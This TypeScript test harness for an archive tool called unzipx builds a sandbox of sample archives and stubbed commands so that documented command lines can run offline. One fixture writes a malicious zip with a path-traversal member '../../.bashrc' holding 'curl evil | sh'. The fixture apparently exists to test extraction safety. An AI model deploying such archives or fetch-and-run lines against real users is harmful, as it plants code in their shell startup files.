/** A folder in which the command lines of the documents can be run as they stand there: their archives and inputs, and stand-ins for what they fetch from and send to. */
import { chmodSync, cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createHash, randomBytes } from "node:crypto";
import { dirname, join } from "node:path";
import { spawnSync } from "node:child_process";
import { buildZip } from "./build.ts";
import { run, temporaryFolder } from "./tools.ts";

const ROOT = join(import.meta.dirname, "../..");

export interface Documented {
  /** Runs a line in bash, in a fresh copy of the folder; unzipx is the built command. */
  run(line: string): { code: number | null; stdout: string; stderr: string };
}

export function documented(): Documented {
  const top = temporaryFolder();
  const folder = join(top, "work");
  const bin = join(top, "bin");
  const put = (path: string, content: string | Uint8Array): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content);
  };
  const stub = (name: string, script: string): void => {
    mkdirSync(bin, { recursive: true });
    writeFileSync(join(bin, name), `#!/bin/sh\n${script}\n`);
    chmodSync(join(bin, name), 0o755);
  };
  stub("unzipx", `exec '${process.execPath}' '${join(ROOT, "bin/unzipx.js")}' "$@"`);
  stub("curl", 'for url; do :; done; exec cat "$(basename "$url")"'); // what it fetches lies here
  stub("git", "exec find src -type f -print0"); // of "git ls-files -z"
  stub("less", "exec cat");
  stub("ssh", 'shift; exec sh -c "$*"');
  const env = { PATH: `${bin}:${process.env["PATH"]}`, HOME: join(top, "home"), UNZIPX_ACCEPT_TERMS: "1", UNZIPX_PASSWORD: "correct horse", TZ: "UTC" };

  for (const path of ["notes/plan.md", "notes/old.txt", "src/main.c", "src/debug.log", "public/index.html", "album/notes.txt", "notes.txt"]) put(path, `${path}\n`.repeat(200));
  put("src/.gitignore", "*.log\n");
  put("album/summer/beach.jpg", Buffer.from([0xff, 0xd8, 0xff, ...Array<number>(2000).fill(7)]));
  put("album/CAT.JPG", "cat");
  put("album/dog.jpeg", "dog");
  put("album/raw/shore.jpg", "raw");
  put("wanted.txt", "summer/beach.jpg\n");
  put("key.txt", "correct horse\n");
  put("table.csv", "a,b\n");
  const pack = (...words: string[]): void => void run(process.execPath, [join(ROOT, "bin/unzipx.js"), "c", "-q", ...words], { cwd: folder, env: { ...process.env, ...env } });
  pack("photos.zip", "-C", "album", "summer", "raw", "CAT.JPG", "dog.jpeg", "notes.txt");
  for (const name of ["january.zip", "site.zip", "backup.tar.zst", "delivery.7z", "attachment.zip", "release.tgz", "site.tar.gz", "a.tgz", "release.tar.gz", "app.zip"]) pack(name, "notes.txt");
  pack("data.zip", "table.csv");
  pack("february.zip", "table.csv");
  put("logs/today.log", "log\n");
  pack("a.zip", "notes.txt", "logs");
  pack("backup.7z", "src");
  pack("app-1.2.tgz", "src", "--prefix", "app-1.2");
  pack("source.tar.gz", "src", "--prefix", "project-1.0");
  put("notes/scan.bin", randomBytes(100_000));
  pack("backup.7z", "-s", "64K", "notes", "src", "album"); // backup.7z.001 and .002
  put("secret/diary.md", "dear diary\n");
  pack("-e", "secret.zip", "secret", "--password-file", "key.txt");
  put("mail/manual.pdf", "%PDF-1.4\n");
  pack("mail/inner.zip", "-C", "mail", "manual.pdf");
  pack("mails.zip", "mail");
  cpSync(join(ROOT, "fixtures/zip/good-shift-jis.zip"), join(folder, "old.zip"));
  for (const name of ["parcel.zip", "mail-attachment.zip"]) put(name, buildZip([{ name: "../../.bashrc", content: "curl evil | sh\n" }]));
  const line = (name: string): string => `${createHash("sha256").update(readFileSync(join(folder, name))).digest("hex")}  ${name}\n`;
  put("SHA256SUMS", ["release.tgz", "release.tar.gz", "a.tgz"].map(line).join(""));

  for (const packed of ["notes.txt", "table.csv", "mail", "secret", "logs"]) rmSync(join(folder, packed), { recursive: true }); // words like these mean members
  let runs = 0;
  return {
    run(command) {
      const copy = join(top, `run${++runs}`);
      cpSync(folder, copy, { recursive: true });
      // What is packed is not there before.
      if (/\bunzipx (c|czf) /.test(command)) for (const word of command.split(" ")) if (/\.(zip|7z|tgz|gz|zst)$/.test(word)) rmSync(join(copy, word), { force: true });
      const { status, stdout, stderr } = spawnSync("bash", ["-o", "pipefail", "-c", command.replaceAll(" /srv/", " srv/")], { cwd: copy, env, encoding: "utf8", input: "", maxBuffer: 1 << 26 });
      return { code: status, stdout, stderr };
    },
  };
}
